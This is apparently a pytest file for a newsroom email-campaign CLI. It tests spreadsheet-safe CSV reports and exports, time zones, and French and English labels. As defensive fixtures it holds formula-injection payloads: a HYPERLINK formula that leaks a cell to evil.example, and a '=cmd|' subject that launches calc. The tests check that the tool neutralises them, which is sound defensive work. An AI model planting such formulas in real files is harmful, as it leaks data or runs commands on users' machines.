"""Outputs a newsroom can use, through the CLI on a real campaign (aiosmtpd receives the emails, a
reply is imported as an .eml): every CSV follows the targets file's separator (or --sep), is
spreadsheet-safe, gives times in the campaign's zone with their offset and readable durations;
`--by` takes the user's own header; `report --lang fr` speaks French."""

from __future__ import annotations

import csv
import io
import re
from email.message import EmailMessage
from pathlib import Path

import pytest

import probe.cli
from probe import csvout
from probe.report.i18n import LABELS

HOSTILE_COMPANY = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
TARGETS = (
    "Email;Prénom;Société;Secteur\n"
    'anne@banque.example;Anne;"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")";Banque\n'
    "bob@assur.example;Bob;+33 Assur;Assurance\n"
    "carla@banque.example;Carla;@Banque;Banque\n"
)
T0 = "2027-01-11T09:00:00"


@pytest.fixture
def probe_cli(capsys: pytest.CaptureFixture[str]):
    def run(*argv: str | Path) -> tuple[int, str, str]:
        code = probe.cli.main([str(a) for a in argv])
        out, err = capsys.readouterr()
        return code, out, err

    return run


@pytest.fixture
def campaign(tmp_path: Path, smtp_server, probe_cli) -> Path:
    from tests.fixtures.campaign import make_campaign

    camp = make_campaign(tmp_path / "c", smtp_port=smtp_server.port, db_url="sqlite:///probe.db",
                         initial="Subject: Bonjour {{ prenom }}\n\nOUI ou NON ?\n",
                         sections={"schedule": {"start": T0}})
    (camp.path / "targets.csv").write_text(TARGETS, encoding="cp1252")
    code, _, err = probe_cli("launch", camp.config)
    assert code == 0, err
    code, _, err = probe_cli("tick", camp.config, "--now", T0)
    assert code == 0, err
    sent = {r.rcpt_tos[0]: r.message for r in smtp_server.handler.wait_for(3)}
    reply = EmailMessage()
    reply["From"] = "Anne <anne@banque.example>"
    reply["To"] = "redaction@en-contact.example.com"
    reply["Subject"] = "=cmd|' /C calc'!A0 Re: Bonjour Anne"
    reply["Date"] = "Tue, 12 Jan 2027 13:30:00 +0100"
    reply["Message-ID"] = "<reply-1@banque.example>"
    reply["In-Reply-To"] = sent["anne@banque.example"]["Message-ID"]
    reply.set_content("Oui, avec plaisir.\n")
    eml = tmp_path / "reply.eml"
    eml.write_bytes(bytes(reply))
    code, _, err = probe_cli("import", camp.config, eml, "--now", "2027-01-12T14:00:00")
    assert code == 0, err
    return camp.config


def _rows(text: str, sep: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=sep))


def test_safe_cell_prefixes_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csvout.safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert csvout.safe_cell("Banque") == "Banque" and csvout.safe_cell(None) == ""
    assert csvout.safe_cell("a=b") == "a=b"


def test_readable_durations() -> None:
    assert csvout.readable_duration(86400 + 4 * 3600 + 59) == "1 d 4 h"
    assert csvout.readable_duration(3 * 3600 + 12 * 60) == "3 h 12 min"
    assert csvout.readable_duration(40) == "40 s" and csvout.readable_duration(0) == "0 s"
    assert csvout.readable_duration(None) == ""


def test_report_csv_follows_the_semicolon_file_and_is_spreadsheet_safe(campaign: Path, probe_cli,
                                                                       tmp_path: Path) -> None:
    code, out, err = probe_cli("report", campaign, "--format", "csv")
    assert code == 0, err
    header, *rows = _rows(out, ";")
    assert header[:4] == ["email", "prenom", "societe", "secteur"], "one column per field, not one per row"
    by_email = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    anne = by_email["anne@banque.example"]
    assert anne["societe"] == "'" + HOSTILE_COMPANY
    assert by_email["bob@assur.example"]["societe"] == "'+33 Assur"
    assert by_email["carla@banque.example"]["societe"] == "'@Banque"
    # Times in Europe/Paris with the offset, to the second; the duration readable beside the seconds.
    assert anne["first_sent_at"] == "2027-01-11T09:00:00+01:00"
    assert anne["answered_at"] == "2027-01-12T13:30:00+01:00"
    assert anne["time_to_answer_s"] == str(28 * 3600 + 30 * 60)
    assert anne["time_to_answer"] == "1 d 4 h"
    code, out, _ = probe_cli("report", campaign, "--format", "csv", "--sep", ",")
    assert out.splitlines()[0].startswith("email,prenom,societe,secteur,state")


def test_export_csvs_follow_the_separator_and_are_safe(campaign: Path, probe_cli, tmp_path: Path) -> None:
    code, _, err = probe_cli("export", campaign, "--output", tmp_path / "ev")
    assert code == 0, err
    sends = _rows((tmp_path / "ev" / "sends.csv").read_text(encoding="utf-8-sig"), ";")
    assert sends[0][:3] == ["target_email", "wave", "state"]
    sent_at = sends[0].index("sent_at")
    assert {r[sent_at] for r in sends[1:] if r[sent_at]} == {"2027-01-11T09:00:00+01:00"}
    replies = _rows((tmp_path / "ev" / "replies.csv").read_text(encoding="utf-8-sig"), ";")
    subject = replies[0].index("subject")
    assert replies[1][subject].startswith("'=cmd|")
    assert replies[1][replies[0].index("received_at")] == "2027-01-12T13:30:00+01:00"
    code, _, _ = probe_cli("export", campaign, "--output", tmp_path / "ev2", "--sep", "tab")
    assert (tmp_path / "ev2" / "sends.csv").read_text(encoding="utf-8-sig").startswith("target_email\twave")
    code, _, err = probe_cli("export", campaign, "--output", tmp_path / "ev3", "--sep", "|")
    assert code == 2 and "--sep" in err


def test_by_takes_the_users_own_header(campaign: Path, probe_cli) -> None:
    for spelling in ("Secteur", "SECTEUR", "secteur"):
        code, out, err = probe_cli("report", campaign, "--by", spelling, "--format", "json")
        assert code == 0, err
        assert set(__import__("json").loads(out)["by"]["secteur"]) == {"Banque", "Assurance"}
    code, out, err = probe_cli("report", campaign, "--by", "Société", "--format", "json")
    assert code == 0, err


def test_report_table_in_french_then_english(campaign: Path, probe_cli) -> None:
    code, out, err = probe_cli("report", campaign, "--lang", "fr", "--now", "2027-01-13T10:00:00")
    assert code == 0, err
    assert "ont répondu : 1 des 3 cibles joignables (33,3 %" in out
    assert "relance 1" in out and "premier envoi" in out and "taux de réponse" in out
    assert "(au 2027-01-13 10:00 +01:00)" in out, "the report time in the campaign's zone"
    assert "reachable" not in out and "answered" not in out
    code, out, _ = probe_cli("report", campaign, "--lang", "en", "--now", "2027-01-13T10:00:00")
    assert "1 of 3 reachable targets answered (33.3 %" in out and "relance" not in out


def test_report_language_defaults_to_the_campaign_locale(campaign: Path, probe_cli) -> None:
    text = campaign.read_text(encoding="utf-8")
    campaign.write_text(text.replace('timezone = "Europe/Paris"', 'timezone = "Europe/Paris"\nlocale = "fr_FR"'),
                        encoding="utf-8")
    code, out, err = probe_cli("report", campaign)
    assert code == 0, err
    assert "ont répondu" in out


def test_both_languages_have_every_label() -> None:
    assert set(LABELS["fr"]) == set(LABELS["en"])
    for key, english in LABELS["en"].items():
        assert sorted(re.findall(r"{\w+}", LABELS["fr"][key])) == sorted(re.findall(r"{\w+}", english)), key


def test_html_report_follows_the_campaign_locale_and_lang(campaign: Path, probe_cli, tmp_path: Path) -> None:
    text = campaign.read_text(encoding="utf-8")
    campaign.write_text(text.replace('timezone = "Europe/Paris"', 'timezone = "Europe/Paris"\nlocale = "fr_FR"'),
                        encoding="utf-8")
    code, out, err = probe_cli("report", campaign, "--format", "html", "--now", "2027-01-13T10:00:00")
    assert code == 0, err
    assert '<html lang="fr">' in out and "Comment lire ce rapport" in out
    assert "rapport produit le 13 janv. 2027 10:00 +01:00" in out, "the report time in the campaign's zone"
    assert "Taux de réponse après chaque envoi" in out
    code, out, err = probe_cli("report", campaign, "--format", "html", "--lang", "en", "--now", "2027-01-13T10:00:00")
    assert code == 0, err
    assert '<html lang="en">' in out and "How to read this" in out and "13 Jan 2027 10:00 +01:00" in out
